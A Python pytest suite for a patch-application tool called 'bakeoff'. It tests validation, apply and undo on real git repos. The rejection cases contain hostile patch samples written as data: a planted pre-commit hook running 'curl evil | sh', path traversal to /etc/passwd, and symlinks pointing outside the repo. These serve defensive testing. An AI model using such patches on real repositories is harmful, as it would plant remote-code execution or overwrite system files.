"""Applying results to the user's repo: RELIABILITY items 14, 18 and 19, on real git repos."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from bakeoff.agent.patches import PatchRejected, UndoRefused, apply_patch, undo, validate_patch


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    r.mkdir()
    git(r, "init", "-q", "-b", "main")
    git(r, "config", "user.email", "dev@example.com")
    git(r, "config", "user.name", "Dev")
    (r / "src").mkdir()
    (r / "src" / "a.c").write_text("int a(void) {\n    return 1;\n}\n")
    (r / "README").write_text("hello\n")
    (r / "old.txt").write_text("to be deleted\n")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "base")
    return r


def snapshot(repo: Path) -> dict[str, object]:
    """Everything undo must restore: files (bytes), index, HEAD, branch, branches."""
    files = {}
    for dirpath, dirnames, filenames in os.walk(repo):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in filenames:
            p = Path(dirpath) / name
            files[str(p.relative_to(repo))] = p.read_bytes()
    dirs = sorted(str(Path(d).relative_to(repo)) for d, _, _ in os.walk(repo) if ".git" not in Path(d).parts)
    return {
        "files": files, "dirs": dirs,
        "index": git(repo, "ls-files", "-s"),
        "head": git(repo, "rev-parse", "HEAD"),
        "branch": git(repo, "symbolic-ref", "-q", "HEAD"),
        "branches": git(repo, "branch", "--list"),
    }


def diff_of(repo: Path, edit) -> str:
    """A real git patch: make the edit, take the diff, put the repo back."""
    edit(repo)
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--cached", "HEAD")
    git(repo, "reset", "-q", "--hard", "HEAD")
    git(repo, "clean", "-qfd")
    return patch


def good_edit(repo: Path) -> None:
    (repo / "src" / "a.c").write_text("int a(void) {\n    return 2;\n}\n")
    (repo / "src" / "new").mkdir()
    (repo / "src" / "new" / "b.c").write_text("int b(void) { return 3; }\n")
    (repo / "old.txt").unlink()


# --------------------------------------------------------------------------- item 14


@pytest.mark.parametrize("patch, reason", [
    ("--- a/../evil\n+++ b/../evil\n@@ -0,0 +1 @@\n+x\n", "leaves the repository"),
    ("--- /dev/null\n+++ /etc/passwd\n@@ -0,0 +1 @@\n+x\n", "absolute path"),
    ("diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
     "+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n", ".git/"),
    ("diff --git a/sub/.git/config b/sub/.git/config\n--- a/sub/.git/config\n+++ b/sub/.git/config\n"
     "@@ -1 +1 @@\n-a\n+b\n", ".git/"),
    ("--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n", "CI file"),
    ("--- /dev/null\n+++ b/.GitHub/Workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n", "CI file"),
    ("--- /dev/null\n+++ b/.GIT/config\n@@ -0,0 +1 @@\n+x\n", ".git/"),
    ("diff --git a/x b/y\nsimilarity index 100%\nrename from src/a.c\nrename to ../a.c\n", "leaves the repository"),
    ("--- /dev/null\n+++ b/.gitlab-ci.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/.circleci/config.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/Jenkinsfile\n@@ -0,0 +1 @@\n+pipeline {}\n", "CI file"),
    ("--- /dev/null\n+++ b/azure-pipelines.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/.ci/run\n@@ -0,0 +1 @@\n+x\n", "CI file"),
    ("diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/passwd\n"
     "\\ No newline at end of file\n", "points outside"),
    ("diff --git a/src/up b/src/up\nnew file mode 120000\n--- /dev/null\n+++ b/src/up\n@@ -0,0 +1 @@\n+../../x\n"
     "\\ No newline at end of file\n", "points outside"),
    ("diff --git a/bin.dat b/bin.dat\nnew file mode 100644\nindex 0000000..e69de29\nGIT binary patch\n"
     "literal 3\nKcmZ>Y0000\n\nliteral 0\nHcmV?d00001\n\n", "binary patch"),
    ("this is not a diff at all\n", "malformed"),
    ("--- a/README\n+++ b/README\n@@ -1,3 +1,3 @@\n-hello\n+bye\n", "malformed"),
])
def test_unsafe_patches_are_rejected_before_anything_is_applied(repo: Path, patch: str, reason: str) -> None:
    before = snapshot(repo)
    reasons = validate_patch(patch, repo)
    assert any(reason in r for r in reasons), reasons
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, message="evil")
    assert any(reason in r for r in err.value.reasons)
    assert snapshot(repo) == before
    assert not Path("/etc/passwd").read_text().startswith("x\n")


def test_a_path_through_an_existing_symlink_leaving_the_repo_is_rejected(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, repo / "out")
    patch = "--- /dev/null\n+++ b/out/planted.txt\n@@ -0,0 +1 @@\n+x\n"
    assert any("symlink leaving" in r for r in validate_patch(patch, repo))
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch)
    assert not (outside / "planted.txt").exists()


def test_a_symlink_inside_the_repo_and_a_good_patch_are_accepted(repo: Path) -> None:
    inside = ("diff --git a/src/readme b/src/readme\nnew file mode 120000\n--- /dev/null\n+++ b/src/readme\n"
              "@@ -0,0 +1 @@\n+../README\n\\ No newline at end of file\n")
    assert validate_patch(inside, repo) == []
    assert validate_patch(diff_of(repo, good_edit), repo) == []


# --------------------------------------------------------------------------- apply and undo


def test_apply_without_commit_then_undo_restores_exactly(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "notes.txt").write_text("user's own untracked work\n")  # untouched by the patch
    before = snapshot(repo)
    change = apply_patch(repo, patch, base_commit=before["head"].strip())
    assert "return 2" in (repo / "src" / "a.c").read_text()
    assert (repo / "src" / "new" / "b.c").exists() and not (repo / "old.txt").exists()
    assert git(repo, "rev-parse", "HEAD") == before["head"]
    undo(repo, change)
    assert snapshot(repo) == before


def test_apply_as_commit_on_current_branch_then_undo(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "staged.txt").write_text("user staged this\n")
    git(repo, "add", "staged.txt")  # the user's staged work must not ride along in our commit
    before = snapshot(repo)
    change = apply_patch(repo, patch, message="bakeoff: return 2")
    assert change.committed and change.head_after != change.head_before
    committed = git(repo, "show", "--name-only", "--format=", "HEAD").split()
    assert sorted(committed) == ["old.txt", "src/a.c", "src/new/b.c"]
    assert "staged.txt" in git(repo, "diff", "--cached", "--name-only")
    undo(repo, change)
    assert snapshot(repo) == before


def test_apply_on_new_branch_then_undo(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    before = snapshot(repo)
    change = apply_patch(repo, patch, message="bakeoff result", branch="bakeoff/fast")
    assert git(repo, "symbolic-ref", "--short", "HEAD").strip() == "bakeoff/fast"
    assert git(repo, "rev-parse", "main") == before["head"]
    undo(repo, change)
    assert snapshot(repo) == before


# --------------------------------------------------------------------------- item 18


def test_moved_base_is_refused_and_nothing_of_the_user_is_lost(repo: Path) -> None:
    base = git(repo, "rev-parse", "HEAD").strip()
    patch = diff_of(repo, good_edit)
    (repo / "README").write_text("the user kept working\n")
    git(repo, "commit", "-qam", "user commit during the run")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, base_commit=base)
    assert "moved" in str(err.value)
    assert snapshot(repo) == before


def test_uncommitted_edit_of_a_touched_file_is_refused(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "a.c").write_text("int a(void) { return 42; } /* user's edit */\n")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, base_commit=git(repo, "rev-parse", "HEAD").strip())
    assert "src/a.c" in str(err.value)
    assert snapshot(repo) == before


def test_untracked_file_where_the_patch_creates_one_is_refused(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "new").mkdir()
    (repo / "src" / "new" / "b.c").write_text("user's file\n")
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch)
    assert (repo / "src" / "new" / "b.c").read_text() == "user's file\n"


# --------------------------------------------------------------------------- item 19


def test_conflicting_patch_leaves_the_tree_unchanged(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "a.c").write_text("int a(void) {\n    return 7;\n}\n")
    git(repo, "commit", "-qam", "changed upstream")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, message="x")
    assert "apply" in str(err.value)
    assert snapshot(repo) == before


def test_failure_in_the_middle_of_a_commit_restores_everything(repo: Path) -> None:
    """A ref-update hook fails after the files were written: the apply is rolled back."""
    patch = diff_of(repo, good_edit)
    hook = repo / ".git" / "hooks" / "reference-transaction"
    hook.write_text('#!/bin/sh\n[ "$1" = prepared ] && exit 1\nexit 0\n')
    hook.chmod(0o755)
    before = snapshot(repo)
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch, message="x", branch="bakeoff/x")
    hook.unlink()
    assert snapshot(repo) == before


def test_ctrl_c_during_apply_restores_everything(repo: Path) -> None:
    """SIGINT reaches bakeoff while git is committing: KeyboardInterrupt, tree restored."""
    patch = diff_of(repo, good_edit)
    hook = repo / ".git" / "hooks" / "reference-transaction"
    # The hook's parent is git; git's parent is this test process.
    hook.write_text('#!/bin/sh\n[ "$1" = prepared ] || exit 0\nrm -f "$0"\n'
                    'kill -INT "$(ps -o ppid= -p $PPID)"\nsleep 2\n')
    hook.chmod(0o755)
    before = snapshot(repo)
    with pytest.raises(KeyboardInterrupt):
        apply_patch(repo, patch, message="x")
    assert not hook.exists()  # it fired
    assert snapshot(repo) == before
    assert not (repo / ".git" / "index.lock").exists()


def test_undo_refuses_when_the_user_changed_things_after_the_apply(repo: Path) -> None:
    change = apply_patch(repo, diff_of(repo, good_edit))
    (repo / "src" / "a.c").write_text("user edited after the apply\n")
    with pytest.raises(UndoRefused) as err:
        undo(repo, change)
    assert "src/a.c" in str(err.value)
    assert (repo / "src" / "a.c").read_text() == "user edited after the apply\n"


def test_applied_change_serializes(repo: Path) -> None:
    change = apply_patch(repo, diff_of(repo, good_edit), message="m")
    from bakeoff.agent.patches import AppliedChange

    again = AppliedChange.model_validate_json(change.model_dump_json())
    undo(repo, again)
    assert (repo / "old.txt").exists()
